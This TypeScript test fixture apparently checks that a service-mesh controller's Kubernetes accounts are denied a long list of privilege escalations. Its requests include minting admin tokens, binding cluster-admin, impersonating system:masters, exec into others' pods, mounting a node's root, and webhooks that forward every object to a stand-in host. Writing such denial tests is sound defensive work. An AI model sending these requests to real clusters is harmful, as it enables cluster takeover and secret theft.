/**
 * Privilege escalations from an account's permissions. Each is a request that an intruder with its token would send.
 */

/** Places of the attacked objects. */
export interface Places {
  /** The namespace of the attacking account. */
  readonly own: string;
  readonly account: string;
  /** The namespace of a control plane. */
  readonly mesh: string;
  /** The namespace of an application. */
  readonly app: string;
}

export interface Attack {
  readonly what: string;
  readonly method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  readonly path: string;
  readonly body?: unknown;
  readonly headers?: Readonly<Record<string, string>>;
  /** It connects to a program in the cluster, which does not exist here. */
  readonly connects?: true;
  /** A variant of an attack that is tried before: that one shows what can be reached. */
  readonly isVariant?: true;
}

/** A ServiceAccount in each of the namespaces, bound to cluster-admin. */
export const ADMIN_ACCOUNT = 'builder';
/** Existing objects of other owners. */
export const OTHERS = 'others';

const core = (namespace: string, rest: string): string => `/api/v1/namespaces/${namespace}/${rest}`;
const of = (groupVersion: string, namespace: string, rest: string): string =>
  `/apis/${groupVersion}/namespaces/${namespace}/${rest}`;
const all = (groupVersion: string, rest: string): string => `/apis/${groupVersion}/${rest}`;

const post = (what: string, path: string, body: unknown): Attack => ({ what, method: 'POST', path, body });
const patch = (what: string, path: string, body: unknown): Attack => ({ what, method: 'PATCH', path, body });
const get = (what: string, path: string, headers?: Readonly<Record<string, string>>): Attack => ({
  what,
  method: 'GET',
  path,
  ...(headers === undefined ? {} : { headers }),
});
const connecting = (attack: Attack): Attack => ({ ...attack, connects: true });
const remove = (what: string, path: string): Attack => ({ what, method: 'DELETE', path });
const named = (name: string, more: object = {}) => ({ metadata: { name, ...more } });

/** A signing request of the common name `mine`. */
export const CSR = [
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlISk1IRUNBUUF3RHpFTk1Bc0dBMVVFQXd3RWJXbHVaVEJaTUJN',
  'R0J5cUdTTTQ5QWdFR0NDcUdTTTQ5QXdFSApBMElBQk50dFNiSDFucWFuSTFDdzd6aFUzS2hvQjJ4cWE2K3MxMmFhdUNiNFJtaTJN',
  'WnRDVmxxTEJLK0NsMUtUCm9VaEpZRXN5Um43cmt3VXJkQWlRVUx1azFEV2dBREFLQmdncWhrak9QUVFEQWdOSUFEQkZBaUVBNE9D',
  'NlptNXEKMUZKZXV4NUxCOVdRR1VweDVpYkpzeFR3empQY3N3dmU2aTBDSURvVTRjNzBoNmhhQks0UnhkdHRTZXdwTFNORAo3enNx',
  'TExLVkhWNVN0TWVYCi0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=',
].join('');

const RBAC = 'rbac.authorization.k8s.io/v1';
const ADMISSION = 'admissionregistration.k8s.io/v1';
const OUR_LABEL = { 'meshrelay.dev/owner': 'meshrelay' };
const POD = { containers: [{ name: 'shell', image: 'shell:1' }], serviceAccountName: ADMIN_ACCOUNT };
const TEMPLATE = { metadata: { labels: { app: 'shell' } }, spec: POD };
const SELECTOR = { matchLabels: { app: 'shell' } };
const EVERYTHING = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
const CLUSTER_ADMIN = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };

/** A Secret into which the token controller puts the token of a ServiceAccount. */
export function tokenSecret(namespace: string, name: string): Attack {
  return post(`the token of an administrator by a Secret ${name} in ${namespace}`, core(namespace, 'secrets'), {
    metadata: { name, annotations: { 'kubernetes.io/service-account.name': ADMIN_ACCOUNT } },
    type: 'kubernetes.io/service-account-token',
  });
}

/** Requests that are forbidden to all of Meshrelay's accounts, except where a permission is intended for them. */
export function attacks(places: Places): readonly Attack[] {
  return [...requests(places), ...meshRequests(places)].flatMap((attack) => [attack, ...otherWays(attack)]);
}

/** The same with another verb, which needs its own permission. */
function otherWays(attack: Attack): readonly Attack[] {
  const { what, path } = attack;
  if (attack.method === 'PATCH')
    return [{ ...attack, what: `${what}, by replacing it`, method: 'PUT', isVariant: true }];
  if (attack.method !== 'DELETE') return [];
  return [{ ...attack, what: `${what}, with all others`, path: path.slice(0, path.lastIndexOf('/')), isVariant: true }];
}

function requests({ own, account, mesh, app }: Places): readonly Attack[] {
  const everywhere = [own, mesh, app, 'kube-system'];
  const foreign = [mesh, app, 'kube-system'];
  const subjects = [{ kind: 'ServiceAccount', name: account, namespace: own }];
  return [
    ...everywhere.flatMap((namespace) => [
      tokenSecret(namespace, 'cacerts'),
      tokenSecret(namespace, 'meshrelay-workload-ca'),
      tokenSecret(namespace, 'mine'),
      post(`a Secret with a made name in ${namespace}`, core(namespace, 'secrets'), {
        metadata: { generateName: 'cacerts-', annotations: { 'kubernetes.io/service-account.name': ADMIN_ACCOUNT } },
        type: 'kubernetes.io/dockerconfigjson',
        stringData: { '.dockerconfigjson': '{}' },
      }),
      post(`a pod in ${namespace}`, core(namespace, 'pods'), { ...named('shell'), spec: POD }),
      post(`a Deployment in ${namespace}`, of('apps/v1', namespace, 'deployments'), {
        ...named('shell'),
        spec: { selector: SELECTOR, template: TEMPLATE },
      }),
      post(`a DaemonSet in ${namespace}`, of('apps/v1', namespace, 'daemonsets'), {
        ...named('shell'),
        spec: { selector: SELECTOR, template: TEMPLATE },
      }),
      post(`a Job in ${namespace}`, of('batch/v1', namespace, 'jobs'), {
        ...named('shell'),
        spec: { template: { spec: { ...POD, restartPolicy: 'Never' } } },
      }),
      post(`cluster-admin in ${namespace} by a RoleBinding`, of(RBAC, namespace, 'rolebindings'), {
        ...named('mine'),
        roleRef: CLUSTER_ADMIN,
        subjects,
      }),
      post(`a Role in ${namespace}`, of(RBAC, namespace, 'roles'), { ...named('mine'), rules: EVERYTHING }),
      post(`a ServiceAccount in ${namespace}`, core(namespace, 'serviceaccounts'), named('mine')),
      post(`a ConfigMap in ${namespace}`, core(namespace, 'configmaps'), { ...named('mine'), data: {} }),
      post(`a Service in ${namespace}`, core(namespace, 'services'), {
        ...named('mine'),
        spec: { ports: [{ port: 443 }], externalIPs: ['192.0.2.1'] },
      }),
      post(`Endpoints in ${namespace}`, of('discovery.k8s.io/v1', namespace, 'endpointslices'), {
        ...named('mine'),
        addressType: 'IPv4',
        endpoints: [{ addresses: ['192.0.2.1'] }],
      }),
      post(`a Lease in ${namespace}`, of('coordination.k8s.io/v1', namespace, 'leases'), {
        ...named('mine'),
        spec: {},
      }),
      patch(`labels of the namespace ${namespace}`, `/api/v1/namespaces/${namespace}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      }),
      get(`the Secrets of ${namespace}`, core(namespace, 'secrets')),
      get(`another's Secret in ${namespace}`, core(namespace, `secrets/${OTHERS}`)),
      patch(`another's Secret in ${namespace}`, core(namespace, `secrets/${OTHERS}`), { data: { key: 'bWluZQ==' } }),
      remove(`another's Secret in ${namespace} deleted`, core(namespace, `secrets/${OTHERS}`)),
      patch(`another's ConfigMap in ${namespace}`, core(namespace, `configmaps/${OTHERS}`), { data: { key: 'mine' } }),
      remove(`another's ConfigMap in ${namespace} deleted`, core(namespace, `configmaps/${OTHERS}`)),
      patch(`the roots in ${namespace}`, core(namespace, 'configmaps/kube-root-ca.crt'), {
        data: { 'ca.crt': 'mine' },
      }),
      remove(`another's Lease in ${namespace} deleted`, of('coordination.k8s.io/v1', namespace, `leases/${OTHERS}`)),
      patch(`another's Lease in ${namespace}`, of('coordination.k8s.io/v1', namespace, `leases/${OTHERS}`), {
        spec: { holderIdentity: 'mine' },
      }),
    ]),
    ...foreign.flatMap((namespace) => [
      post(`a token of a ServiceAccount in ${namespace}`, core(namespace, `serviceaccounts/${ADMIN_ACCOUNT}/token`), {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {},
      }),
      connecting(
        post(`a command in a pod of ${namespace}`, core(namespace, `pods/${OTHERS}/exec?command=sh&stdout=true`), {}),
      ),
      connecting(post(`a pod of ${namespace} attached to`, core(namespace, `pods/${OTHERS}/attach?stdout=true`), {})),
      connecting(post(`a port of a pod in ${namespace}`, core(namespace, `pods/${OTHERS}/portforward?ports=80`), {})),
      connecting(get(`a pod of ${namespace} by the API server's proxy`, core(namespace, `pods/${OTHERS}/proxy/`))),
      connecting(get(`the log of a pod in ${namespace}`, core(namespace, `pods/${OTHERS}/log`))),
      patch(`a container put into a pod of ${namespace}`, core(namespace, `pods/${OTHERS}/ephemeralcontainers`), {
        spec: { ephemeralContainers: [{ name: 'shell', image: 'shell:1' }] },
      }),
      patch(`another image in a pod of ${namespace}`, core(namespace, `pods/${OTHERS}`), {
        metadata: { annotations: { mine: 'true' } },
      }),
      remove(`a pod of ${namespace} deleted`, core(namespace, `pods/${OTHERS}`)),
      post(`a pod of ${namespace} bound to a node`, core(namespace, `pods/${OTHERS}/binding`), {
        ...named(OTHERS),
        target: { kind: 'Node', name: OTHERS },
      }),
      patch(`the status of a pod in ${namespace}`, core(namespace, `pods/${OTHERS}/status`), {
        status: { podIP: '192.0.2.1' },
      }),
      patch(`another account of a Deployment in ${namespace}`, of('apps/v1', namespace, `deployments/${OTHERS}`), {
        spec: { template: { spec: { serviceAccountName: ADMIN_ACCOUNT } } },
      }),
      patch(`a Deployment of ${namespace} scaled`, of('apps/v1', namespace, `deployments/${OTHERS}/scale`), {
        spec: { replicas: 0 },
      }),
      connecting(
        get(`a Service of ${namespace} by the API server's proxy`, core(namespace, `services/${OTHERS}/proxy/`)),
      ),
      patch(`a Service of ${namespace} led astray`, core(namespace, `services/${OTHERS}`), {
        spec: { externalIPs: ['192.0.2.1'] },
      }),
      patch(`a ServiceAccount of ${namespace}`, core(namespace, `serviceaccounts/${ADMIN_ACCOUNT}`), {
        metadata: { annotations: { role: 'mine' } },
      }),
    ]),
    post(`a token of its own`, core(own, `serviceaccounts/${account}/token`), {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { expirationSeconds: 31_536_000 },
    }),
    get('all Secrets', '/api/v1/secrets'),
    post('a bootstrap token', core('kube-system', 'secrets'), {
      ...named('bootstrap-token-abcdef'),
      type: 'bootstrap.kubernetes.io/token',
      stringData: { 'token-id': 'abcdef', 'token-secret': '0123456789abcdef' },
    }),
    patch('the DNS of the cluster', core('kube-system', 'configmaps/coredns'), { data: { Corefile: 'mine' } }),
    post('the administrators of EKS', core('kube-system', 'configmaps'), { ...named('aws-auth'), data: {} }),
    post('more DNS of the cluster', core('kube-system', 'configmaps'), { ...named('coredns-custom'), data: {} }),
    patch('who may pose as whom', core('kube-system', 'configmaps/extension-apiserver-authentication'), {
      data: { 'requestheader-allowed-names': '[]' },
    }),
    remove('the Secret of a mesh deleted', core(mesh, 'secrets/cacerts')),
    get('the CA of a mesh', core(mesh, 'secrets/cacerts')),
    patch('the CA of a mesh exchanged', core(mesh, 'secrets/cacerts'), { data: { key: 'bWluZQ==' } }),
    patch('the configuration of a mesh', core(mesh, 'configmaps/istio'), { data: { mesh: 'mine' } }),
    get('the CA of another mesh', core('default', 'secrets/cacerts')),
    patch('the configuration of a mesh for which Settings allow no patches', core('kube-system', 'configmaps/istio'), {
      data: { mesh: 'mine' },
    }),
    post('cluster-admin by a ClusterRoleBinding', all(RBAC, 'clusterrolebindings'), {
      ...named('mine'),
      roleRef: CLUSTER_ADMIN,
      subjects,
    }),
    post('a ClusterRole', all(RBAC, 'clusterroles'), { ...named('mine'), rules: EVERYTHING }),
    patch('more rights for itself', all(RBAC, `clusterroles/${account}`), { rules: EVERYTHING }),
    patch('more rights for viewers', all(RBAC, 'clusterroles/view'), {
      metadata: { labels: { mine: 'true' } },
    }),
    get('all Secrets as the administrator', '/api/v1/secrets', {
      'impersonate-user': 'admin',
      'impersonate-group': 'system:masters',
    }),
    get('all Secrets as a ServiceAccount', '/api/v1/secrets', {
      'impersonate-user': `system:serviceaccount:kube-system:${ADMIN_ACCOUNT}`,
    }),
    post('what another user may do', all('authorization.k8s.io/v1', 'subjectaccessreviews'), {
      spec: { user: 'admin', resourceAttributes: { verb: 'get', resource: 'secrets' } },
    }),
    ...(['validatingwebhookconfigurations', 'mutatingwebhookconfigurations'] as const).map((plural) =>
      post(`${plural} that see every Secret`, all(ADMISSION, plural), {
        ...named('mine'),
        webhooks: [
          {
            name: 'mine.example.com',
            clientConfig: { url: 'https://mine.example.com' },
            rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }],
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
          },
        ],
      }),
    ),
    remove('the policy that keeps it deleted', all(ADMISSION, `validatingadmissionpolicies/${account}`)),
    remove(
      'the binding of the policy that keeps it deleted',
      all(ADMISSION, `validatingadmissionpolicybindings/${account}`),
    ),
    patch('the policy that keeps it', all(ADMISSION, `validatingadmissionpolicies/${account}`), {
      spec: { failurePolicy: 'Ignore' },
    }),
    patch(
      'our CRDs',
      all('apiextensions.k8s.io/v1', 'customresourcedefinitions/trafficpolicies.networking.meshrelay.dev'),
      {
        metadata: { annotations: { mine: 'true' } },
      },
    ),
    post('an API served by another server', all('apiregistration.k8s.io/v1', 'apiservices'), {
      ...named('v1.mine.example.com'),
      spec: {
        group: 'mine.example.com',
        version: 'v1',
        groupPriorityMinimum: 100,
        versionPriority: 100,
        service: { namespace: app, name: OTHERS },
      },
    }),
    connecting(get('a node by the API server’s proxy', `/api/v1/nodes/${OTHERS}/proxy/pods`)),
    patch('a node', `/api/v1/nodes/${OTHERS}`, { metadata: { labels: { mine: 'true' } } }),
    patch('the status of a node', `/api/v1/nodes/${OTHERS}/status`, { status: { addresses: [] } }),
    post('a certificate by the cluster’s CA', all('certificates.k8s.io/v1', 'certificatesigningrequests'), {
      ...named('mine'),
      spec: { request: CSR, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
    }),
    patch('a certificate approved', all('certificates.k8s.io/v1', `certificatesigningrequests/${OTHERS}/approval`), {
      status: { conditions: [{ type: 'Approved', status: 'True', reason: 'Mine' }] },
    }),
    post('a namespace', '/api/v1/namespaces', named('mine')),
    remove('a namespace deleted', `/api/v1/namespaces/${app}`),
    post('the files of a node', '/api/v1/persistentvolumes', {
      ...named('mine'),
      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
    }),
    get('the metrics of the API server', '/metrics'),
    get('the profiles of the API server', '/debug/pprof/'),
    post('code in every proxy of a mesh', of('networking.istio.io/v1alpha3', mesh, 'envoyfilters'), {
      apiVersion: 'networking.istio.io/v1alpha3',
      kind: 'EnvoyFilter',
      ...named('mine'),
      spec: {},
    }),
  ];
}

/** Objects of meshes that are not Meshrelay's, or in places without Meshrelay's objects. */
function meshRequests({ mesh, app }: Places): readonly Attack[] {
  const rule = { apiVersion: 'networking.istio.io/v1', kind: 'DestinationRule', spec: { host: 'bank.example.com' } };
  const plural = (namespace: string, rest = '') => of('networking.istio.io/v1', namespace, `destinationrules${rest}`);
  return [
    post('a DestinationRule without the labels of generated objects', plural(app), { ...named('mine'), ...rule }),
    post('a DestinationRule in kube-system', plural('kube-system'), {
      ...named('mine', { labels: OUR_LABEL }),
      ...rule,
    }),
    patch('a DestinationRule of a user', plural(app, `/${OTHERS}`), { spec: { host: 'mine.example.com' } }),
    patch('a DestinationRule of a user labelled as generated', plural(app, `/${OTHERS}`), {
      metadata: { labels: OUR_LABEL },
    }),
    remove('a DestinationRule of a user deleted', plural(app, `/${OTHERS}`)),
    remove(
      'an AuthorizationPolicy of a user deleted',
      of('security.istio.io/v1', app, `authorizationpolicies/${OTHERS}`),
    ),
    post(
      'code of a WasmPlugin without the labels of generated objects',
      of('extensions.istio.io/v1alpha1', mesh, 'wasmplugins'),
      {
        apiVersion: 'extensions.istio.io/v1alpha1',
        kind: 'WasmPlugin',
        ...named('mine'),
        spec: { url: 'oci://mine.example.com/code' },
      },
    ),
    patch('a policy of a user', of('networking.meshrelay.dev/v1alpha1', app, `accesspolicies/${OTHERS}`), {
      metadata: { annotations: { mine: 'true' } },
    }),
    remove('a policy of a user deleted', of('networking.meshrelay.dev/v1alpha1', app, `accesspolicies/${OTHERS}`)),
  ];
}
